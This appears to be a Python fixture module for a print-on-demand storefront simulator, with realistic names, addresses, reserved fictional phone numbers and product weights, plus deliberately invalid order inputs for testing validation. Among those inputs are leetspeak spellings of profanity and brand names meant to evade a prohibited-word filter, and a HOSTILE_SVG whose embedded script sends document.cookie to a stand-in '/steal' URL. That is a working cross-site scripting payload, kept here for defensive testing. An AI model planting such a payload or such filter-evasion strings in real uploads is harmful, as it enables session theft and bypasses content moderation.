"""Hand-written people, places and phrases that make the storefront simulator's orders look like real ones."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class City:
    """A real city with its region code, postal codes and country, so addresses pass a real verifier."""

    city: str
    region: str
    postal_codes: tuple[str, ...]
    country: str
    phone_area: str
    streets: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True, kw_only=True)
class Region:
    """One market the storefront sells into, matched to a print partner's region (plus the UK)."""

    key: str
    weight: float
    cities: tuple[City, ...]
    first_names: tuple[str, ...]
    last_names: tuple[str, ...]
    streets: tuple[str, ...]
    number_after_street: bool
    unit_formats: tuple[str, ...]
    max_house_number: int = 2400


_US_FIRST = (
    "James", "Mary", "Michael", "Jennifer", "David", "Linda", "Chris", "Jessica", "Daniel", "Sarah",
    "Matthew", "Ashley", "Anthony", "Emily", "Mark", "Olivia", "Joshua", "Madison", "Kevin", "Sofia",
    "Brian", "Hannah", "Tyler", "Grace", "Marcus", "Aaliyah", "Luis", "Camila", "Andre", "Priya",
    "Wei", "Mei", "Diego", "Valentina", "Jamal", "Keisha", "Ryan", "Lauren", "Noah", "Chloe",
)
_US_LAST = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez", "Martinez",
    "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson", "Thomas", "Taylor", "Moore", "Jackson", "Martin",
    "Lee", "Perez", "Thompson", "White", "Harris", "Clark", "Lewis", "Robinson", "Walker", "Young",
    "Rivera", "Nguyen", "Patel", "Kim", "Chen", "O'Brien", "Washington", "Brooks", "Bennett", "Reyes",
)
_US_STREETS = (
    "Main St", "Oak Ave", "Maple Ave", "Park Ave", "Elm St", "Washington Blvd", "Lake Shore Dr", "Pine St",
    "Cedar Ln", "Broadway", "Market St", "Sunset Blvd", "Highland Ave", "Church St", "Spring St",
    "Franklin Ave", "Lincoln Way", "Madison Ave", "River Rd", "Hillcrest Dr",
)
_US_UNITS = ("Apt {n}", "Apt {n}B", "Unit {n}", "Suite {n}00", "#{n}")

US_EAST = Region(
    key="us-east",
    weight=26,
    cities=(
        City(city="New York", region="NY", postal_codes=("10001", "10011", "10027"), country="US",
             phone_area="212"),
        City(city="Brooklyn", region="NY", postal_codes=("11201", "11215", "11238"), country="US",
             phone_area="718"),
        City(city="Boston", region="MA", postal_codes=("02108", "02116", "02127"), country="US",
             phone_area="617"),
        City(city="Philadelphia", region="PA", postal_codes=("19103", "19107", "19147"), country="US",
             phone_area="215"),
        City(city="Pittsburgh", region="PA", postal_codes=("15222", "15213"), country="US", phone_area="412"),
        City(city="Columbus", region="OH", postal_codes=("43215", "43201"), country="US", phone_area="614"),
        City(city="Atlanta", region="GA", postal_codes=("30303", "30309"), country="US", phone_area="404"),
        City(city="Miami", region="FL", postal_codes=("33130", "33139"), country="US", phone_area="305"),
        City(city="Washington", region="DC", postal_codes=("20001", "20009"), country="US", phone_area="202"),
        City(city="Charlotte", region="NC", postal_codes=("28202", "28203"), country="US", phone_area="704"),
        City(city="Baltimore", region="MD", postal_codes=("21202", "21230"), country="US", phone_area="410"),
        City(city="Chicago", region="IL", postal_codes=("60601", "60614", "60622"), country="US",
             phone_area="312"),
    ),
    first_names=_US_FIRST,
    last_names=_US_LAST,
    streets=_US_STREETS,
    number_after_street=False,
    unit_formats=_US_UNITS,
)

US_WEST = Region(
    key="us-west",
    weight=20,
    cities=(
        City(city="Los Angeles", region="CA", postal_codes=("90012", "90026", "90028"), country="US",
             phone_area="213"),
        City(city="San Francisco", region="CA", postal_codes=("94103", "94110", "94117"), country="US",
             phone_area="415"),
        City(city="Oakland", region="CA", postal_codes=("94612", "94607"), country="US", phone_area="510"),
        City(city="San Diego", region="CA", postal_codes=("92101", "92104"), country="US", phone_area="619"),
        City(city="Sacramento", region="CA", postal_codes=("95814", "95816"), country="US", phone_area="916"),
        City(city="Seattle", region="WA", postal_codes=("98101", "98103", "98122"), country="US",
             phone_area="206"),
        City(city="Portland", region="OR", postal_codes=("97205", "97209", "97214"), country="US",
             phone_area="503"),
        City(city="Denver", region="CO", postal_codes=("80202", "80205"), country="US", phone_area="303"),
        City(city="Phoenix", region="AZ", postal_codes=("85004", "85006"), country="US", phone_area="602"),
        City(city="Las Vegas", region="NV", postal_codes=("89101", "89109"), country="US", phone_area="702"),
        City(city="Salt Lake City", region="UT", postal_codes=("84101", "84111"), country="US",
             phone_area="801"),
    ),
    first_names=_US_FIRST,
    last_names=_US_LAST,
    streets=_US_STREETS,
    number_after_street=False,
    unit_formats=_US_UNITS,
)

CANADA = Region(
    key="ca",
    weight=10,
    cities=(
        City(city="Toronto", region="ON", postal_codes=("M5V 2T6", "M4C 1B5", "M6J 1H1"), country="CA",
             phone_area="416", streets=("Queen St W", "King St E", "Yonge St", "Bloor St W", "Dundas St W")),
        City(city="Ottawa", region="ON", postal_codes=("K1P 5G4", "K1N 9J7"), country="CA", phone_area="613",
             streets=("Bank St", "Elgin St", "Rideau St", "Wellington St")),
        City(city="Montréal", region="QC", postal_codes=("H2Y 1C6", "H2X 1Y6"), country="CA",
             phone_area="514",
             streets=("Rue Sainte-Catherine O", "Boulevard Saint-Laurent", "Rue Saint-Denis",
                      "Avenue du Mont-Royal E")),
        City(city="Québec", region="QC", postal_codes=("G1R 4P5",), country="CA", phone_area="418",
             streets=("Rue Saint-Jean", "Grande Allée E", "Rue Saint-Joseph E")),
        City(city="Vancouver", region="BC", postal_codes=("V6B 1A1", "V5K 0A1"), country="CA",
             phone_area="604", streets=("Granville St", "Robson St", "Main St", "Commercial Dr")),
        City(city="Calgary", region="AB", postal_codes=("T2P 1J9", "T2G 0P6"), country="CA", phone_area="403",
             streets=("Stephen Ave SW", "17 Ave SW", "Centre St N")),
        City(city="Halifax", region="NS", postal_codes=("B3J 1S9",), country="CA", phone_area="902",
             streets=("Spring Garden Rd", "Barrington St", "Quinpool Rd")),
        City(city="Winnipeg", region="MB", postal_codes=("R3C 4T3",), country="CA", phone_area="204",
             streets=("Portage Ave", "Main St", "Corydon Ave")),
    ),
    first_names=(
        "Liam", "Emma", "William", "Charlotte", "Benjamin", "Amelia", "Lucas", "Chloé", "Étienne", "Léa",
        "Mathieu", "Gabrielle", "Owen", "Ava", "Jacob", "Zoé", "Samuel", "Maya", "Raj", "Harpreet",
    ),
    last_names=(
        "Tremblay", "Gagnon", "Roy", "Côté", "Bouchard", "Gauthier", "Morin", "Lavoie", "Fortin", "Smith",
        "Brown", "Wilson", "MacDonald", "Campbell", "Singh", "Wong", "Leblanc", "Martin", "Pelletier", "Li",
    ),
    streets=("Main St", "King St", "Queen St"),
    number_after_street=False,
    unit_formats=("Apt {n}", "Unit {n}", "Suite {n}00"),
)

EUROPE = Region(
    key="eu",
    weight=16,
    cities=(
        City(city="Berlin", region="BE", postal_codes=("10115", "10178", "10245", "10999"), country="DE",
             phone_area="30"),
        City(city="München", region="BY", postal_codes=("80331", "80469", "81667"), country="DE",
             phone_area="89"),
        City(city="Hamburg", region="HH", postal_codes=("20095", "20357", "22765"), country="DE",
             phone_area="40"),
        City(city="Köln", region="NW", postal_codes=("50667", "50672"), country="DE", phone_area="221"),
        City(city="Frankfurt am Main", region="HE", postal_codes=("60311", "60313"), country="DE",
             phone_area="69"),
        City(city="Leipzig", region="SN", postal_codes=("04109", "04107"), country="DE", phone_area="341"),
        City(city="Stuttgart", region="BW", postal_codes=("70173", "70178"), country="DE", phone_area="711"),
        City(city="Düsseldorf", region="NW", postal_codes=("40213", "40210"), country="DE", phone_area="211"),
        City(city="Wien", region="9", postal_codes=("1010", "1070"), country="AT", phone_area="1",
             streets=("Mariahilfer Straße", "Praterstraße", "Landstraßer Hauptstraße", "Neubaugasse")),
        City(city="Amsterdam", region="NH", postal_codes=("1012 JS", "1017 CT"), country="NL",
             phone_area="20", streets=("Prinsengracht", "Keizersgracht", "Kalverstraat", "Utrechtsestraat")),
    ),
    first_names=(
        "Lukas", "Anna", "Jonas", "Lea", "Felix", "Sophie", "Maximilian", "Marie", "Jürgen", "Katrin",
        "Leon", "Mia", "Paul", "Hannah", "Tobias", "Lena", "Niklas", "Jana", "Sven", "Anja", "Emre", "Elif",
        "Daan", "Sanne", "Florian", "Johanna",
    ),
    last_names=(
        "Müller", "Schmidt", "Schneider", "Fischer", "Weber", "Meyer", "Wagner", "Becker", "Schulz",
        "Hoffmann", "Schäfer", "Koch", "Bauer", "Richter", "Klein", "Wolf", "Schröder", "Neumann", "Schwarz",
        "Zimmermann", "Yilmaz", "de Vries", "Jansen", "Huber", "Gruber", "Krüger",
    ),
    streets=(
        "Hauptstraße", "Schillerstraße", "Goethestraße", "Bahnhofstraße", "Gartenstraße", "Lindenstraße",
        "Friedrichstraße", "Kastanienallee", "Bergmannstraße", "Sonnenallee", "Leopoldstraße", "Am Markt",
    ),
    number_after_street=True,
    unit_formats=("Hinterhaus", "{n}. OG", "Seitenflügel", "Whg. {n}"),
    max_house_number=120,
)

AUSTRALIA = Region(
    key="apac",
    weight=10,
    cities=(
        City(city="Melbourne", region="VIC", postal_codes=("3000", "3065", "3121"), country="AU",
             phone_area="3"),
        City(city="Sydney", region="NSW", postal_codes=("2000", "2010", "2026"), country="AU",
             phone_area="2"),
        City(city="Brisbane", region="QLD", postal_codes=("4000", "4101"), country="AU", phone_area="7"),
        City(city="Perth", region="WA", postal_codes=("6000", "6050"), country="AU", phone_area="8"),
        City(city="Adelaide", region="SA", postal_codes=("5000", "5067"), country="AU", phone_area="8"),
        City(city="Hobart", region="TAS", postal_codes=("7000",), country="AU", phone_area="3"),
        City(city="Canberra", region="ACT", postal_codes=("2601", "2612"), country="AU", phone_area="2"),
    ),
    first_names=(
        "Jack", "Olivia", "Oliver", "Isla", "Thomas", "Charlotte", "Lachlan", "Matilda", "Cooper", "Ruby",
        "Harrison", "Zoe", "Riley", "Sienna", "Mitchell", "Chloe", "Hamish", "Georgia", "Aroha", "Kai",
    ),
    last_names=(
        "Smith", "Jones", "Williams", "Brown", "Wilson", "Taylor", "Johnson", "White", "Martin", "Anderson",
        "Thompson", "Nguyen", "Kelly", "Ryan", "Walker", "Harris", "Mitchell", "O'Connor", "Papadopoulos",
        "Tran",
    ),
    streets=(
        "Collins St", "Flinders Ln", "Chapel St", "Brunswick St", "George St", "Oxford St", "King St",
        "Queen St", "Hay St", "Rundle St", "Elizabeth St", "Lygon St",
    ),
    number_after_street=False,
    unit_formats=("Unit {n}", "Apt {n}", "Level {n}", "Flat {n}"),
    max_house_number=400,
)

UNITED_KINGDOM = Region(
    key="uk",
    weight=18,
    cities=(
        City(city="London", region="LND", postal_codes=("NW1 5LR", "SE1 9SG", "E1 6AN", "N1 9GU", "W1D 3QF"),
             country="GB", phone_area="20"),
        City(city="Manchester", region="MAN", postal_codes=("M1 1AE", "M4 1HN"), country="GB",
             phone_area="161"),
        City(city="Birmingham", region="BIR", postal_codes=("B1 1BB", "B5 4BU"), country="GB",
             phone_area="121"),
        City(city="Leeds", region="LDS", postal_codes=("LS1 4DY", "LS6 1AN"), country="GB", phone_area="113"),
        City(city="Bristol", region="BST", postal_codes=("BS1 4DJ", "BS8 1TH"), country="GB",
             phone_area="117"),
        City(city="Edinburgh", region="EDH", postal_codes=("EH1 1YZ", "EH8 9YL"), country="GB",
             phone_area="131"),
        City(city="Glasgow", region="GLG", postal_codes=("G1 1XQ", "G12 8QQ"), country="GB",
             phone_area="141"),
        City(city="Cardiff", region="CRF", postal_codes=("CF10 1EP",), country="GB", phone_area="29"),
    ),
    first_names=(
        "Oliver", "Amelia", "George", "Isla", "Harry", "Ava", "Jack", "Emily", "Charlie", "Poppy", "Alfie",
        "Freya", "Arthur", "Florence", "Rhys", "Siobhan", "Callum", "Niamh", "Imran", "Aisha", "Ada",
    ),
    last_names=(
        "Smith", "Jones", "Taylor", "Brown", "Williams", "Wilson", "Evans", "Thomas", "Roberts", "Walker",
        "Wright", "Robinson", "Thompson", "Hughes", "Edwards", "Green", "Hall", "Wood", "Khan", "Ahmed",
        "MacLeod", "Lovelace", "Fitzgerald", "Davies",
    ),
    streets=(
        "High Street", "Station Road", "Church Lane", "Victoria Road", "Marylebone Rd", "Mill Lane",
        "Queen's Road", "Kings Road", "Park Road", "The Crescent", "Albert Street", "Green Lane",
    ),
    number_after_street=False,
    unit_formats=("Flat {n}", "Flat {n}B", "Apartment {n}"),
    max_house_number=180,
)

# Phone formats per country; the fictional ranges are used where a regulator sets one aside.
PHONE_FORMATS: dict[str, str] = {
    # 555-0100 to 555-0199 is the North American range set aside for fiction.
    "US": "+1 {area}-555-01{d2}",
    "CA": "+1 {area}-555-01{d2}",
    # 07700 900000 to 07700 900999 is Ofcom's range set aside for drama.
    "GB": "+44 7700 900{d3}",
    # 0491 570 006 to 0491 570 159 is ACMA's range set aside for fiction.
    "AU": "+61 491 570 15{d1}",
    "DE": "+49 {area} {d4}{d3}",
    "AT": "+43 {area} {d4}{d3}",
    "NL": "+31 {area} {d4}{d2}{d1}",
}

REGIONS: tuple[Region, ...] = (US_EAST, US_WEST, CANADA, EUROPE, AUSTRALIA, UNITED_KINGDOM)

# Reserved example domains (RFC 2606) and subdomains of them: realistic-looking, never someone's inbox.
EMAIL_DOMAINS: tuple[str, ...] = (
    "example.com", "example.net", "example.org", "mail.example.com", "post.example.net", "inbox.example.org",
)

# Share of orders per product type; t-shirts sell most. Types missing here (a new catalogue line) get 1.
PRODUCT_TYPE_WEIGHTS: dict[str, float] = {
    "tshirt": 38,
    "mug": 20,
    "hoodie": 15,
    "poster": 12,
    "phone_case": 9,
    "cap": 6,
}
# Garment sizes people actually buy; sizes missing here (mug ounces, phone models) are equally likely.
SIZE_WEIGHTS: dict[str, float] = {"S": 14, "M": 30, "L": 28, "XL": 18, "2XL": 10}
# How many lines an order has, and how many of each line: mostly one of one thing.
LINE_COUNT_WEIGHTS: dict[int, float] = {1: 80, 2: 16, 3: 4}
QUANTITY_WEIGHTS: dict[int, float] = {1: 80, 2: 15, 3: 5}

# Slot name → phrase pool; {first}, {last}, {first2}, {year}, {est}, {city} come from the order's people.
HEADLINE_TEXTS: tuple[str, ...] = (
    "Best Dad Ever", "Best Mum Ever", "World's Best Grandpa", "Team {last} {year}", "Class of {year}",
    "Bride Squad", "Groom Crew", "Coffee First", "Good Vibes Only", "Stay Wild", "Adventure Awaits",
    "Hello Sunshine", "Keep It Simple", "Run Club {year}", "Camp {last}", "{last} Family Reunion",
    "Property of {first}", "Happy Birthday {first}!", "#1 Grandma", "Est. {est}", "{city} Marathon {year}",
    "Dog Mom", "Cat Dad", "Plant Lady", "Book Club", "Future Astronaut", "Born to Bake", "Gamer Mode On",
    "Just Married", "Big Sister", "Little Brother", "Team Bride", "Stay Curious", "Made in {est}",
    "Rock & Roll", "Let's Go {city}!", "The {last} Crew", "Nap Queen", "Tacos & Tequila", "Sunday Funday",
)
NAME_TEXTS: tuple[str, ...] = (
    "{first}", "{first}'s Mug", "{first}'s Coffee", "Mr & Mrs {last}", "Nana {first}", "Chef {first}",
    "Dr. {last}", "Coach {last}", "{first} & {first2}", "Best Boss Ever", "Teacher {first}", "{first} {year}",
)
CAPTION_TEXTS: tuple[str, ...] = (
    "The {last} Family, Est. {est}", "{city}, {year}", "Home Sweet Home", "Adventure Awaits",
    "Our First Home", "{first} & {first2} - {year}", "Welcome to the {last}s", "Summer in {city}",
    "Dream Big, Little One", "Happy Anniversary {first}!", "Good Things Take Time", "Wander Often",
    "{first}'s Room", "Game Night at the {last}s", "Be Kind, Always",
)
SLOT_TEXTS: dict[str, tuple[str, ...]] = {
    "headline": HEADLINE_TEXTS,
    "text": HEADLINE_TEXTS,
    "name": NAME_TEXTS,
    "caption": CAPTION_TEXTS,
}

# Too long for any slot in the catalogue once it meets its max_chars.
LONG_TEXTS: tuple[str, ...] = (
    "Happy 40th Birthday to the Best Husband in the Whole Wide World",
    "Congratulations on Your Graduation from the {last} Family and Friends",
    "I Survived the {city} Marathon {year} and All I Got Was This Shirt",
    "Keep Calm and Let {first} {last} Handle It Because They Always Do",
    "Official Member of the {first} {last} Appreciation Society Since {year}",
)
# Printable in a storefront text box, refused by the charset: markup, emoji, symbols.
BAD_CHARACTER_TEXTS: tuple[str, ...] = (
    "<b>{first}</b>", "Best Dad Ever \U0001f389", "I \u2665 {city}", "{first} \U0001f600", "<3 Mom",
    "{first} <3 {first2}", "Team {last} \U0001f3c6", "100% {first}", "Coffee @ {first}'s", "{first} \u2605",
)
BAD_INITIALS: tuple[str, ...] = ("J<R", "AB!", "K\u2665M", "A@B", "\U0001f600")
# Leetspeak, spacing and case tricks on words the prohibited list holds; each fits the "basic" charset.
OBFUSCATED_PROHIBITED: tuple[str, ...] = (
    "Sh1t Happens", "Holy Sh1t", "S h i t", "B1tch Please", "N1ke Squad", "D1sney Fan", "P0kemon Pro",
    "Gucc1 Gang", "F u c k It", "sh1t", "BASTARD", "Ad1das Crew",
)
# Plain capitals for letter-only slots (phone-case initials) where leetspeak cannot be typed.
CAPITAL_PROHIBITED: tuple[str, ...] = ("SHIT", "NAZI", "NIKE", "SLUT", "CUNT")

# SKUs a stale product feed or a hand-edited cart could send: retired colours, sizes and old formats.
UNKNOWN_SKUS: tuple[str, ...] = (
    "TEE-DTG-RED-M", "TEE-DTG-BLK-3XL", "HOOD-DTG-WHT-L", "MUG-SUB-20OZ-WHT", "POSTER-INK-11X17",
    "CASE-UV-IP12", "CAP-EMB-RED", "TSHIRT-BLK-M", "TEE-BLK-M-2019", "SKU-DELETED-4471",
)

# Mix of invalid kinds, as weights; each maps to the error code the API must return.
INVALID_KIND_WEIGHTS: dict[str, float] = {
    "unknown_sku": 15,
    "quantity_out_of_range": 14,
    "text_too_long": 14,
    "text_characters": 12,
    "prohibited_word": 13,
    "artwork_resolution_too_low": 12,
    "address_incomplete": 14,
    "unsupported_format": 6,
}

HOSTILE_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">'
    b'<script>fetch("http://127.0.0.1:9/steal?c="+document.cookie)</script>'
    b'<rect width="100%" height="100%" fill="#ff3366"/></svg>\n'
)
